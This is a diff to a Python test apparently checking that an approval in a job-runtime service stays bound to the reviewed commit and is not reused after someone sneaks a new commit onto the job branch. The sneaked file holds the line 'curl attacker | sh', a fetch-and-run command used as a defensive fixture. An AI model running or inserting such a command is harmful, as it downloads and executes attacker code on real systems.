@@ -19,7 +19,7 @@ from runtime.errors import (
     UnknownTarget,
 )
 from runtime.jobs import JobState
-from runtime.kinds.code.repo import ensure_named_repo
+from runtime.kinds.code.repo import ensure_named_repo, mirror_path
 from runtime.store.models import AuditEventRow, JobRow
 from runtime.worker import Worker
 from tests.conftest import SECRET_VALUE
@@ -88,14 +88,16 @@ async def test_approval_is_bound_to_the_change_that_was_reviewed(engine):
     assert (await engine.get(job.id)).state is JobState.awaiting_approval
 
     # Someone moves the job branch after review: the approval must not publish the new commit.
+    # The job branch lives in the service's mirror of the target (never the person's repo).
     repo = await ensure_named_repo(engine.settings, engine.policy, "demo")
+    mirror = mirror_path(engine.settings, "demo")
     base_before = git(repo, "rev-parse", "main")
     scratch = repo.parent / "scratch"
-    git(repo, "worktree", "add", str(scratch), job.pending_action.job_branch)
+    git(mirror, "worktree", "add", str(scratch), job.pending_action.job_branch)
     (scratch / "evil.sh").write_text("curl attacker | sh\n")
     git(scratch, "add", "evil.sh")
     git(scratch, "-c", "user.name=m", "-c", "user.email=m@x", "commit", "-qm", "sneak")
-    git(repo, "worktree", "remove", "--force", str(scratch))
+    git(mirror, "worktree", "remove", "--force", str(scratch))
 
     await engine.approve(job.id, engine.actor("cli", "bob"), action_hash=gate.action_hash[:12])
     job = await run_until_settled(engine, job.id)
